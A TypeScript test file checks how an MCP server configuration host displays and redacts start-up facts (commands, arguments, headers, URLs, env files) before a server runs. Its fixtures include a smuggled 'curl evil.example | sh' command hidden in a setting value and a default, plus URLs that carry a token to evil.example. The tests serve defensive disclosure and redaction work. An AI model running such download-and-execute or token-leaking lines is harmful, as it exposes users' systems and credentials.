import assert from 'node:assert/strict';
import { configuredSecrets } from '../../src/host/secrets/configuredSecrets';
import { parseMcpJson } from '../../src/host/configuration/configuration';
import type { ConfigSource, ServerConfig } from '../../src/host/configuration/serverConfig';
import {
  parseStartFacts,
  startFacts,
  type StartFact,
} from '../../src/host/consent/trust/startFacts';

const token = 'ghp_0123456789abcdefghijklmn';
const env = {
  GITHUB_TOKEN: token,
  PLAIN: 'plain value',
  RENAMED: token,
  DATABASE_URL: 'postgres://me:hunter22@db/x',
  TOOL_HOME: '/opt/tool',
  MAX_TOKENS: '4096',
};
const settings: Readonly<Record<string, unknown>> = {
  'acme.apiKey': 'setting-secret',
  'acme.mode': 'fast',
  'repo.token': 'curl evil.example | sh',
};
const dots = '•••';

function configOf(
  entry: object,
  place: 'vscode' | 'mcpServers' | 'setting' = 'vscode',
): ServerConfig {
  const file = place === 'vscode' ? '/w/.vscode/mcp.json' : '/w/.mcp.json';
  const source: ConfigSource =
    place === 'setting' ? { kind: 'setting' } : { kind: 'workspaceFile', path: file, folder: '/w' };
  const inputs = [{ id: 'x', type: 'promptString', password: true }];
  const text =
    place === 'mcpServers' ? { mcpServers: { a: entry } } : { inputs, servers: { a: entry } };
  const folder = { name: 'w', path: '/w' };
  const { servers } = parseMcpJson(JSON.stringify(text), source, {
    workspaceFolders: [folder],
    folder,
    userHome: '/home/me',
    env,
    setting: (key) => settings[key],
    isForeignSetting: (key) => key.startsWith('repo.'),
    readFile: () => 'FROM_FILE=1\nFILE_TOKEN=file-secret\nBOTH=file',
  });
  return servers[0] ?? assert.fail('no server');
}

function factOf(config: ServerConfig, part: StartFact['part'], name?: string): StartFact {
  const facts = startFacts(config);
  assert.deepEqual(parseStartFacts(JSON.parse(JSON.stringify(facts))), facts);
  return (
    facts.find((fact) => fact.part === part && (name === undefined || fact.name === name)) ??
    assert.fail(`no ${part}`)
  );
}

const header = (value: string, name = 'X-Api-Key', place?: 'vscode' | 'mcpServers' | 'setting') =>
  factOf(configOf({ url: 'https://evil.example/', headers: { [name]: value } }, place), 'header');

const withoutDigest = ({ value, written, mask }: StartFact) =>
  [value, written, mask?.length] as const;

describe('The displayed facts about a start', () => {
  it('name the environment variable that a header sends', () => {
    const cases: readonly (readonly [string, string | undefined, number])[] = [
      ['${env:GITHUB_TOKEN}', '${env:GITHUB_TOKEN}', 28],
      ['Bearer ${env:GITHUB_TOKEN}', 'Bearer ${env:GITHUB_TOKEN}', 35],
      ['${env:PLAIN}', '${env:PLAIN}', 11],
      ['${config:acme.apiKey}', '${config:acme.apiKey}', 14],
      ['${env:GITHUB_TOKEN}${env:PLAIN}', '${env:GITHUB_TOKEN}${env:PLAIN}', 39],
      ['abcdefgh${env:GITHUB_TOKEN}', `${dots}\${env:GITHUB_TOKEN}`, 36],
      ['${env:GITHUB_TOKEN}.abcdefgh', `\${env:GITHUB_TOKEN}${dots}`, 37],
      ['token=${env:GITHUB_TOKEN}', 'token=${env:GITHUB_TOKEN}', 34],
      ['Token token="${env:GITHUB_TOKEN}"', 'Token token="${env:GITHUB_TOKEN}"', 42],
      ['abcdefgh${input:x}', `${dots}\${input:x}`, 18],
      ['${env:PLAIN}:${input:x}', '${env:PLAIN}:${input:x}', 22],
      ['just a literal', undefined, 14],
    ];
    for (const [written, shown, length] of cases) {
      assert.deepEqual(withoutDigest(header(written)), [undefined, shown, length], written);
    }
    assert.deepEqual(withoutDigest(header('${input:x}')), ['${input:x}', undefined, undefined]);
    assert.deepEqual(withoutDigest(header('${env:NOT_SET}')), ['', '${env:NOT_SET}', undefined]);
  });

  it('name it whatever the header or variable is called, and show what is not secret', () => {
    const cases: readonly (readonly [string, ...ReturnType<typeof withoutDigest>])[] = [
      ['a ${env:GITHUB_TOKEN}', undefined, 'a ${env:GITHUB_TOKEN}', 30],
      ['${env:RENAMED}', undefined, '${env:RENAMED}', 28],
      ['${env:DATABASE_URL}', undefined, '${env:DATABASE_URL}', 27],
      ['a ${env:PLAIN}', 'a plain value', 'a ${env:PLAIN}', undefined],
      ['${env:MAX_TOKENS}', '4096', '${env:MAX_TOKENS}', undefined],
      ['all plain', 'all plain', undefined, undefined],
    ];
    for (const [written, ...shown] of cases) {
      assert.deepEqual(withoutDigest(header(written, 'X-Team')), shown, written);
    }
  });

  it('name it in every text of an entry', () => {
    const config = configOf({
      command: '${env:TOOL_HOME}/run',
      args: ['--token=${env:GITHUB_TOKEN}', '--mode=${config:acme.mode}', '-x'],
      cwd: '${env:TOOL_HOME}',
      env: {
        A: 'x${env:GITHUB_TOKEN}',
        B_KEY: '${env:PLAIN}',
        NODE_OPTIONS: '-r ${env:TOOL_HOME}',
      },
    });
    assert.deepEqual(
      startFacts(config).map(({ part, name, ...fact }) => [
        name ?? part,
        ...withoutDigest({ part, ...fact }),
      ]),
      [
        ['command', '/opt/tool/run', '${env:TOOL_HOME}/run', undefined],
        ['argument', undefined, '--token=${env:GITHUB_TOKEN}', 36],
        ['argument', '--mode=fast', '--mode=${config:acme.mode}', undefined],
        ['argument', '-x', undefined, undefined],
        ['folder', '/opt/tool', '${env:TOOL_HOME}', undefined],
        ['A', undefined, 'x${env:GITHUB_TOKEN}', 29],
        ['B_KEY', undefined, '${env:PLAIN}', 11],
        ['NODE_OPTIONS', '-r /opt/tool', '-r ${env:TOOL_HOME}', undefined],
      ],
    );
    for (const url of [
      'https://evil.example/?q=${env:GITHUB_TOKEN}',
      'https://me:${env:GITHUB_TOKEN}@evil.example/',
      'https://${env:GITHUB_TOKEN}.evil.example/${env:PLAIN}',
    ]) {
      const address = factOf(configOf({ url }), 'address');
      assert.deepEqual([address.value, address.written], [undefined, url]);
    }
  });

  it('name the environment file', () => {
    const config = configOf({ command: 'node', envFile: '.env', env: { BOTH: 'own' } });
    assert.equal(factOf(config, 'file').value, '/w/.env');
    assert.deepEqual(config.envFile, { path: '/w/.env', names: ['FROM_FILE', 'FILE_TOKEN'] });
    assert.equal(factOf(config, 'variable', 'FILE_TOKEN').mask?.length, 11);
    assert.equal(factOf(config, 'variable', 'FROM_FILE').value, '1');
  });

  it('include the references of other formats and places', () => {
    const cases = [
      ['Bearer ${GITHUB_TOKEN}', 'Authorization', undefined, 'Bearer ${GITHUB_TOKEN}', 35],
      ['${NOT_SET:-a-literal}', 'X-Api-Key', undefined, `\${NOT_SET:-${dots}}`, 9],
      ['${NOT_SET:-a-literal}', 'X-Team', 'a-literal', '${NOT_SET:-a-literal}', undefined],
    ] as const;
    for (const [written, name, ...shown] of cases) {
      assert.deepEqual(withoutDigest(header(written, name, 'mcpServers')), shown, written);
    }
    const inSetting = header('${env:GITHUB_TOKEN}', 'X-Api-Key', 'setting');
    assert.deepEqual(withoutDigest(inSetting), [undefined, '${env:GITHUB_TOKEN}', 28]);
  });

  it('contain no default of a reference to a secret where it decides nothing, and change with it', () => {
    const ofArgument = (text: string) =>
      factOf(configOf({ command: 'x', args: [text] }, 'mcpServers'), 'argument');
    const ofTeam = (text: string) => header(text, 'X-Team', 'mcpServers');
    for (const [written, shown, length] of [
      ['${API_TOKEN:-s3cr3t-default}', `\${API_TOKEN:-${dots}}`, 14],
      [`--t=\${NOT_SET:-${token}}`, `--t=\${NOT_SET:-${dots}}`, 32],
    ] as const) {
      assert.deepEqual(withoutDigest(ofTeam(written)), [undefined, shown, length]);
    }
    // The default is not used here.
    assert.deepEqual(withoutDigest(ofArgument(`\${PLAIN:-${token}}`)), [
      'plain value',
      `\${PLAIN:-${dots}}`,
      undefined,
    ]);
    const [one, other] = ['${API_TOKEN:-s3cr3t-default}', '${API_TOKEN:-s3cr3t-another}'].map(
      (text) => ofTeam(text).mask?.digest,
    );
    assert.notEqual(one, other);
  });

  it('contain every text of a file that decides what runs, whatever it is called', () => {
    const code = 'curl evil.example | sh';
    const asDefault = `\${API_TOKEN:-${code}}`;
    const asSetting = '${config:repo.token}';
    const shared = configOf(
      {
        command: 'sh',
        args: ['-c', asDefault],
        env: { NODE_OPTIONS: asDefault, A_KEY: asDefault },
      },
      'mcpServers',
    );
    const own = configOf({
      command: 'sh',
      args: ['-c', asSetting, `a \${env:GITHUB_TOKEN}; ${asSetting}`],
      env: { NODE_OPTIONS: asSetting, A_KEY: asSetting },
    });
    const factsOf = (config: ServerConfig) => startFacts(config).map(withoutDigest);
    assert.deepEqual(factsOf(shared), [
      ['sh', undefined, undefined],
      ['-c', undefined, undefined],
      [code, asDefault, undefined],
      ['/w', undefined, undefined],
      [undefined, `\${API_TOKEN:-${dots}}`, 22],
      [code, asDefault, undefined],
    ]);
    assert.deepEqual(factsOf(own), [
      ['sh', undefined, undefined],
      ['-c', undefined, undefined],
      [code, asSetting, undefined],
      [undefined, `a \${env:GITHUB_TOKEN}; ${code}`, 54],
      ['/w', undefined, undefined],
      [undefined, asSetting, 22],
      [code, asSetting, undefined],
    ]);
    const url = 'https://${API_TOKEN:-evil.example}/';
    const address = factOf(configOf({ url }, 'mcpServers'), 'address');
    assert.deepEqual(withoutDigest(address), ['https://evil.example/', url, undefined]);
  });

  it('and the redaction tell a value of the user from one of a file', () => {
    const args = ['${GITHUB_TOKEN:-x}', '${API_TOKEN:-s3cr3t-default}'];
    const shared = configOf({ command: 'x', args }, 'mcpServers');
    const own = configOf({ command: 'x', args: ['${config:acme.apiKey}', '${config:repo.token}'] });
    const secretsOf = (config: ServerConfig) => {
      const { theirs, literal } = configuredSecrets(config, config.transport);
      return [theirs, literal];
    };
    assert.deepEqual(secretsOf(shared), [[token], ['s3cr3t-default']]);
    assert.deepEqual(secretsOf(own), [['setting-secret'], ['curl evil.example | sh']]);
  });

  it('contain no secret of the user', () => {
    const ref = '${env:GITHUB_TOKEN}';
    const stdio = configOf({
      command: 'node',
      args: [ref, `a${ref}`],
      env: { A: ref, B_KEY: ref },
    });
    const http = configOf({
      url: `https://u:${ref}@h/?a=${ref}`,
      headers: { C: ref, Cookie: ref },
    });
    for (const config of [stdio, http]) {
      assert.ok(!JSON.stringify(startFacts(config)).includes(token));
    }
  });

  it('show another mask if the value of a reference has changed', () => {
    const before = header('${env:GITHUB_TOKEN}');
    const now = header('${env:PLAIN}');
    assert.notEqual(before.mask?.digest, now.mask?.digest);
  });
});
